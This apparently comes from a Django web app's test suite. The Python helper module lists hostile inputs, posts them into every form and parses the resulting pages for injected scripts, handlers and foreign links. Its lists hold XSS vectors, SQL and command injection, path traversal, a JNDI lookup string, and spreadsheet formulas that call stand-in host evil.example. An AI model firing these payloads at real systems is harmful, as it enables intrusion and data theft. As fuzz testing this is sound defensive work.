"""Awkward and hostile strings, and what a page may hold of them once parsed as a browser would."""

import re
from datetime import date

from bleach._vendor import html5lib
from django.conf import settings

MARK = "xssmark"

_XSS = [
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<scr<script>ipt>{m}</scr</script>ipt>",
    "<img src=x onerror={m}(1)>",
    "<img src=x onerror={m}//",
    "<img/src='x'/onerror={m}>",
    "<svg onload={m}>",
    "<svg><script>{m}</script></svg>",
    "<svg><animate onbegin={m} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={m}>",
    "<iframe src=javascript:{m}>",
    "<iframe srcdoc='<script>{m}</script>'>",
    "<object data=javascript:{m}>",
    "<embed src=javascript:{m}>",
    "<a href=javascript:{m}>cliquez</a>",
    "<a href='java\tscript:{m}'>cliquez</a>",
    "<a href='&#106;avascript:{m}'>cliquez</a>",
    "<a href=//evil.example/{m}>cliquez</a>",
    "<a href='/\\evil.example/{m}'>cliquez</a>",
    "<a href=data:text/html,{m}>cliquez</a>",
    "<a href=vbscript:{m}>cliquez</a>",
    "<form action=//evil.example/{m}><input name=csrfmiddlewaretoken>",
    "<input onfocus={m} autofocus>",
    "<button formaction=javascript:{m}>ok</button>",
    "<details open ontoggle={m}>",
    "<video><source onerror={m}>",
    "<audio src=x onerror={m}>",
    "<body onload={m}>",
    "<style>*{{background:url(//evil.example/{m})}}</style>",
    "<link rel=stylesheet href=//evil.example/{m}>",
    "<base href=//evil.example/{m}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{m}'>",
    "<p style=position:fixed;{m}>",
    '"><script>{m}</script>',
    "'><script>{m}</script>",
    '" onmouseover="{m}',
    "' onmouseover='{m}",
    "` onmouseover=`{m}",
    "</textarea><script>{m}</script>",
    "</title><script>{m}</script>",
    "</script><script>{m}</script>",
    "--><script>{m}</script>",
    "<!--<script>{m}</script>",
    "]]><script>{m}</script>",
    "<![CDATA[<script>{m}</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror={m}>">',
    "<template><script>{m}</script></template>",
    "<x onclick={m}>",
    "<{m}>",
    "<p {m}=1>",
    "{{{{ {m} }}}}",
    "{{% include '{m}' %}}",
    "${{{m}}}",
    "%3Cscript%3E{m}%3C/script%3E",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "＜script＞{m}＜/script＞",
    "<ſcript>{m}</ſcript>",
    "<img src='x:{m}' srcset='//evil.example/{m} 1x'>",
    "javascript:{m}",
    "[clic](javascript:{m})",
]
_LINKS = [
    "//evil.example/{m}", "/\\evil.example/{m}", "\\\\evil.example\\{m}", "http://evil.example/{m}", "https:evil.example/{m}",
    "https:///evil.example/{m}", "https://user:pass@evil.example/{m}", "https://evil.example%2f@ville.example/{m}",
    "https://évil.example/{m}", "https://evil。example/{m}", "ftp://evil.example/{m}", "file:///etc/{m}", "mailto:a@b.example?bcc={m}",
    "tel:{m}", "www.evil.example/{m}", "https://[::1]/{m}", "https://evil.example:99999/{m}", "https://ville.example/{m}\"onclick=\"x",
]  # fmt: skip
_FORMULAS = [
    f"{space}{sign}{call}"
    for sign in ("=", "+", "-", "@")
    for space in ("", " ", "\t", "\r", "\u00a0", "\ufeff", "\u3000", "'")
    for call in ("HYPERLINK(\"//evil.example\";\"xssmark\")",)
] + ["＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1+1", "=cmd|' /C calc'!A0", "\"=1+1", ";=1+1", "a;=1+1", "=1+1;a", "\n=1+1", "−1+1"]  # fmt: skip
_UNICODE = [
    "\u202egnirts", "\u2066\u2067\u2068x\u2069", "\u200b\u200b\u200b", "\u200d\u200c", "\ufeffx", "\ufffe", "\uffff", "\ufdd0",
    "Z̸̢̧̛̦̗a̴̢̛͙l̷̡g̵o̶ " * 3, "e\u0301" * 40, "👩‍👩‍👧‍👦" * 10, "🇫🇷" * 10, "﷽" * 10, "ﬁ ﬃ Ⅸ ①", "İstanbul ıI", "ß ẞ ſ", "ʼn ŉ ﬀ",
    "𝕿𝖊𝖗𝖗𝖆𝖎𝖓", "Ὀδυσσεύς", "ادخل النص", "עברית", "ไทย", "한국어", "漢字かな", "\U0010ffff", "\ue000", "\u0085\u2028\u2029",
    "\u00ad" * 20, "a\u0300\u0316" * 30, "ﾊﾝｶｸ", "٣١٢", "½ ⅓ ²", "‮cod.exe", "\u180e", "\u115f\u1160", "\u3164", "\U000e0041",
]  # fmt: skip
_CONTROLS = [chr(code) + "texte" + chr(code) for code in (*range(0x00, 0x20), 0x7F, 0x80, 0x9F)] + [
    "\ud800", "\udfff", "\ud83d", "a\udc00b", "\x00" * 50, "\r\n\r\n", "\x1b[31mrouge", "\x08\x08\x08",
]  # fmt: skip
_OTHERS = [
    "'; DROP TABLE ideas_idea; --", "1 OR 1=1", "\" OR \"\"=\"", "%", "_", "\\", "\\'", "%s%s%n", "%(name)s", "{0}{x.__class__}", "{name!r}",
    "null", "None", "undefined", "NaN", "Infinity", "-0", "0x10", "1e309", "-1", "99999999999999999999", "2147483648", "9223372036854775808",
    "true", "[]", "{}", "[\"a\"]", "../../../../etc/passwd", "..\\..\\", "C:\\con", "file\x00.jpg", "$(id)", "`id`", ";id;", "| id", "&& id",
    "a" * 5000, "é" * 3000, "x " * 1500, "\n" * 3000, "(" * 500, "<" * 2000, "&" * 2000, "\"" * 500, "'" * 500, "*" * 500, "AND OR NOT NEAR(",
    "\"non fermé", "col:onne", "^a", "a*", "- ", "NEAR/2", "()", "a AND", "{a b}:c", "-a", "+a", "a^2", "<->", "!a & b", ":*", "&|!()",
    "2026-02-30", "31/02/2026", "0000-00-00", "9999-12-31", "10000-01-01", "12:61", "0", "00000000-0000-0000-0000-000000000000",
]  # fmt: skip

_MORE = [
    "👨🏿‍🦽‍➡️ 🧑🏻‍🤝‍🧑🏾 🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️\u200d🔥" * 40, "#️⃣ *️⃣ 0️⃣", "\U0001f1eb", "\u20e3", "🏻", "\ufe0f" * 30, "\u036f" * 200,
    "Donaudampfschifffahrtsgesellschaftskapitän" * 30, "anticonstitutionnellement" * 80, "\u00a0" * 300, "\u202f:\u00a0!", "l’été – « où » …",
    "X-Injecte: oui\r\nSet-Cookie: a=b\r\n\r\n<html>", "%0d%0aSet-Cookie:%20a=b", "Bcc: a@evil.example\nSujet: b", "a\r\n.\r\nMAIL FROM:<b>",
    "{% load static %}{% csrf_token %}", "{{ request.user.password }}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}", "[[${7*7}]]",
    "1; SELECT pg_sleep(5)", "' UNION SELECT username, password FROM directory_user --", "1' AND 1=CAST((SELECT version()) AS int)--", "\\x27", "\\u0000",
    "__proto__", "constructor[prototype]", "__class__", "a[b][c]", "a.b.c", "*)(uid=*))(|(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "data:text/html;base64,PHNjcmlwdD4=", "\u2028alert(1)\u2029", "\ufeff=1+1", "\u061c\u200f=1+1", "=IMPORTXML(\"//evil.example\",\"//a\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+33 6 12 34 56 78", "-", "=", "1\u00a0234,50\u00a0€", "١٢٣", "Ⅻ", "1e5", "0b1", "٠", "\u0660\u0661/\u0660\u0661/\u0662",
]  # fmt: skip

XSS = [vector.format(m=MARK) for vector in _XSS]
LINKS = [vector.format(m=MARK) for vector in _LINKS]
FORMULAS = _FORMULAS
STRINGS = [*XSS, *LINKS, *FORMULAS, *_UNICODE, *_CONTROLS, *_OTHERS, *_MORE]
# The few that break most: posted in every field of every form.
WORST = [
    "\x00nul\x00",
    "\ud800seul",
    "é" * 150_000,
    f"</textarea></title></script>\"'><img src=x onerror={MARK}><svg onload={MARK}>",
    "99999999999999999999",
    "//evil.example/\\u202e\u202e=1+1",
]

# What our own pages may hold; anything a text brought in beside it is a fault.
_SCRIPT_TYPES = {"application/json", "module", "importmap"}


# A mail as its reader sees it carries its own style.
MAILS = re.compile(r"^/prevenir/(envois/\d+/courriel|modeles/[^/]+)/")


def faults_at(path: str, html: bytes) -> list[str]:
    """The same for the page of an address: the preview of a mail has its style."""
    return [fault for fault in faults(html) if fault != "<style>" or not MAILS.match(path)]


def faults(html: bytes) -> list[str]:
    """What a browser would find in the page that a person's text must not have put there."""
    document = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False, transport_encoding="utf-8")
    found = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower().rsplit("}", 1)[-1]
        names = {str(name).lower(): value for name, value in element.attrib.items()}
        if MARK in tag or any(MARK in name for name in names):
            found.append(f"<{tag} {sorted(names)}>")
        if bad := [name for name in names if name.startswith("on") or name in ("style", "srcdoc")]:
            found.append(f"<{tag}> {bad}")
        if tag in ("iframe", "object", "embed", "base", "math", "audio", "video", "applet"):
            found.append(f"<{tag}>")
        if (
            tag == "script"
            and not names.get("src", "").startswith("/static/")
            and names.get("type") != "application/json"
        ):
            found.append(f"<script> {(element.text or '')[:60]}")
        # The kiosk's own: what it says once erased, and where it goes when nobody touches it.
        kiosk = (
            names.keys() <= {"data-erased", "data-unsent"}
            and names
            or names.get("content", "").endswith(";url=/borne/fin/")
        )
        if not kiosk and (tag in ("style", "template") or (tag == "meta" and "http-equiv" in names)):
            found.append(f"<{tag}>")
        for name in ("href", "src", "action", "formaction", "srcset"):
            value = names.get(name, "")
            if value and not _own_or_plain(tag, name, value, names):
                found.append(f"<{tag} {name}={value[:80]!r}>")
    return found


def _own_or_plain(tag: str, name: str, value: str, attributes: dict) -> bool:
    """A path of ours, or an outbound link as the cleaner makes them."""
    if re.match(r"^(/(?![/\\])|[?#])", value) or value == "":
        return True
    if value.startswith(("http://testserver/", f"{settings.SITE_URL}/")):
        return True
    if tag == "form" and re.fullmatch(r"[a-z]+/", value):
        return True  # below a page whose own address isn't written on it: a ticket never stands beside a name
    if tag == "a" and re.fullmatch(r"tel:\+?[0-9]+|mailto:[\w.+-]+@[\w.-]+", value):
        return True  # who can help; what a text brings there has more in it
    if tag == "a" and name == "href":
        # A person's, as the cleaner makes it; an editor's, in the library of works.
        outbound = attributes.get("rel") in ("nofollow noopener noreferrer ugc", "noopener noreferrer")
        return (value.startswith(("https://", "mailto:")) and outbound) or bool(
            re.match(r"^[a-z0-9./-]*(\?|#|$)", value)
        )
    return tag in ("img", "link") and value.startswith("data:image/")


# What a person types where a browser takes no words.
TYPED = {"date": f"{date.today()}", "number": "3", "time": "10:00", "datetime-local": f"{date.today()}T10:00"}


def forms(html: bytes, method: str = "post") -> list[dict]:
    """The forms of a page that post, or that ask: their address, and each field with the value a browser would send.

    ``boxes`` is what a person would tick, choose or type beside: ``buttons`` every name and value that sends it,
    ``actions`` where else they send it, ``secrets`` what never comes back, ``lines``
    the texts of one line.
    """
    document = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False, transport_encoding="utf-8")
    found = []
    for form in document.iter("form"):
        if form.get("method", "get").lower() != method:
            continue
        fields, texts, boxes, buttons, actions, secrets, lines = {}, set(), {}, [], [], set(), set()
        for element in form.iter():
            name = element.get("name") if isinstance(element.tag, str) else None
            if element.get("formaction"):
                actions.append(element.get("formaction"))
            if not name or name == "csrfmiddlewaretoken":
                continue
            kind = element.get("type", "text").lower()
            if element.tag == "textarea":
                fields[name] = "".join(element.itertext())
                texts.add(name)
            elif element.tag == "select":
                options = [option.get("value", "") for option in element.iter("option")]
                chosen = [option.get("value", "") for option in element.iter("option") if "selected" in option.attrib]
                fields[name] = (chosen or options or [""])[0]
                boxes[name] = next((option for option in [fields[name], *options] if option), "")
            elif element.tag == "input" and kind in ("radio", "checkbox"):
                if "checked" in element.attrib or (kind == "radio" and name not in fields):
                    fields[name] = element.get("value", "on")
                elif kind == "checkbox":
                    boxes.setdefault(name, element.get("value", "on"))
            elif element.tag == "input" and kind not in ("submit", "image", "file", "button"):
                fields[name] = element.get("value", "")
                if kind == "password":
                    secrets.add(name)
                if kind in TYPED and not fields[name]:
                    boxes[name] = element.get("min") or TYPED[kind]
                if kind in ("text", "search", "email", "password", "url", "tel"):
                    texts.add(name)
                    lines.add(name)
            elif element.tag == "button":
                buttons.append((name, element.get("value", "")))
                fields.setdefault(name, element.get("value", ""))
        found.append(
            {
                "action": form.get("action") or "",
                "fields": fields,
                "texts": texts,
                "boxes": boxes,
                "buttons": buttons,
                "actions": actions,
                "secrets": secrets,
                "lines": lines,
            }
        )
    return found


def batched(limit: int = 110) -> list[str]:
    """Every string, alone when long, several on a line otherwise: a field that takes a hundred signs takes them all."""
    texts, text = [], ""
    for string in STRINGS:
        if len(string) + 1 > limit:
            texts.append(string)
        elif len(text) + len(string) + 1 > limit:
            texts.append(text)
            text = string
        else:
            text = f"{text} {string}" if text else string
    return [*texts, text]
